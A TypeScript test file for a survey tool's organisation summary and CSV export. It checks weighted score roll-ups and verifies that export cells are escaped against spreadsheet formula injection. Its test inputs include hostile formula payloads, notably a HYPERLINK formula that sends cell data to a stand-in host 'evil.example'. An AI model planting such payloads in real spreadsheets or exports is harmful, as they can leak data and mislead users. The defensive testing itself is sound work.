import fc from 'fast-check';
import type { Score } from './aggregation';
import {
  exportRows,
  ManagerInfo,
  organisationSummary,
  safeCell,
  StoredReport,
  toCsv,
} from './organisation-summary';

const s = (n: number, mean: number): Score => ({ n, mean, sd: 0.5 });
const none = { self: null, manager: null, direct_report: null, peer: null, other: null };
const report = (employeeId: string, shown: boolean, d1: Score | null): StoredReport => ({
  subject: { employeeId, name: employeeId },
  threshold: 3,
  groups: [{ group: 'others', invited: 5, responded: 4, shown }],
  dimensions: [{ key: 'd1', scores: { ...none, self: s(1, 4), others: d1 } }],
  items: [
    {
      id: 'a',
      dimensionKey: 'd1',
      scores: {
        ...none,
        self: null,
        others: d1 ? { ...d1, distribution: {}, notApplicable: 0 } : null,
      },
    },
  ],
  comments: { others: [], self: [] },
});
const managers: ManagerInfo[] = [
  { employeeId: 'M1', name: '=HYPERLINK("x")', unit: 'Skola', invited: 6, responded: 5 },
  { employeeId: 'M2', name: 'Berg, Åsa', unit: 'Skola', invited: 4, responded: 2 },
  { employeeId: 'M3', name: 'Ek', unit: 'Vård', invited: 5, responded: 4 },
];
const reports = new Map([
  ['M1', report('M1', true, s(4, 3))],
  ['M2', report('M2', false, null)],
  ['M3', report('M3', true, s(3, 4))],
]);

describe('organisationSummary', () => {
  it('shows a manager only where their others is shown and rolls up weighted by respondents', () => {
    const summary = organisationSummary('c', 3, ['d1'], managers, reports);
    expect(summary.managers.map((m) => m.dimensions.d1)).toEqual([
      { n: 4, mean: 3 },
      null,
      { n: 3, mean: 4 },
    ]);
    expect(summary.dimensions).toEqual([
      { key: 'd1', others: { n: 7, mean: (4 * 3 + 3 * 4) / 7, managers: 2 } },
    ]);
    expect(summary.units).toEqual([
      { unit: 'Skola', invited: 10, responded: 7 },
      { unit: 'Vård', invited: 5, responded: 4 },
    ]);
  });

  it('exports one row per shown figure, safe for spreadsheets', () => {
    const rows = exportRows(managers, reports);
    expect(rows).toHaveLength(2 * 2 + 2 + 1);
    const csv = toCsv(rows);
    expect(
      csv.startsWith('\uFEFFemployee_id,name,unit,dimension,item_id,group,n,mean,sd\r\n'),
    ).toBe(true);
    expect(csv).toContain(`M1,"'=HYPERLINK(""x"")",Skola,d1,,self,1,4,0.5\r\n`);
    expect(csv).toContain('"Berg, Åsa",Skola,d1,,self,1,4,0.5');
    expect(csv).not.toMatch(/M2,[^\n]*,others,/);
    expect(safeCell('+1')).toBe("'+1");
    expect(safeCell('-1')).toBe("'-1");
    expect(safeCell('@x')).toBe("'@x");
    expect(safeCell('Åsa')).toBe('Åsa');
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['Berg;=HYPERLINK("http://evil.example","x")', 'Berg;\'=HYPERLINK("http://evil.example","x")'],
    ['Berg,+1', "Berg,'+1"],
    ['a;-1;@SUM(A1)', "a;'-1;'@SUM(A1)"],
    ['a; =1', "a;' =1"],
    ['a;"=1', 'a;\'"=1'],
    ['a\n=1', "a\n'=1"],
    ['a\r\n=1', "a\r\n'=1"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r'=1"],
    [';;=1', ";;'=1"],
    ['Vård- och omsorg; Skola', 'Vård- och omsorg; Skola'],
    ['Berg, Åsa', 'Berg, Åsa'],
  ])('%j is never a formula, split on comma or semicolon: %j', (value, safe) => {
    expect(safeCell(value)).toBe(safe);
  });

  it('no cell of the export, split on comma or semicolon, starts a formula', () => {
    const text = fc
      .array(fc.constantFrom(...',;"=+-@ \t\r\nAå1('), { maxLength: 24 })
      .map((characters) => characters.join(''));
    fc.assert(
      fc.property(text, text, (name, unit) => {
        const csv = toCsv(
          exportRows(
            managers.map((m) => ({ ...m, name, unit })),
            reports,
          ),
        );
        for (const line of csv.split(/\r\n|\n|\r/)) {
          for (const cell of line.split(/[,;]/)) {
            expect(cell).not.toMatch(/^[ "]*[=+\-@\t]/);
          }
        }
      }),
      { numRuns: 500 },
    );
    const hostile = '1;=HYPERLINK("http://evil.example/?"&A1,"Klicka")';
    const csv = toCsv(
      exportRows(
        managers.map((m) => ({ ...m, name: hostile })),
        reports,
      ),
    );
    expect(csv).toContain(`"1;'=HYPERLINK(""http://evil.example/?""&A1,""Klicka"")"`);
  });
});
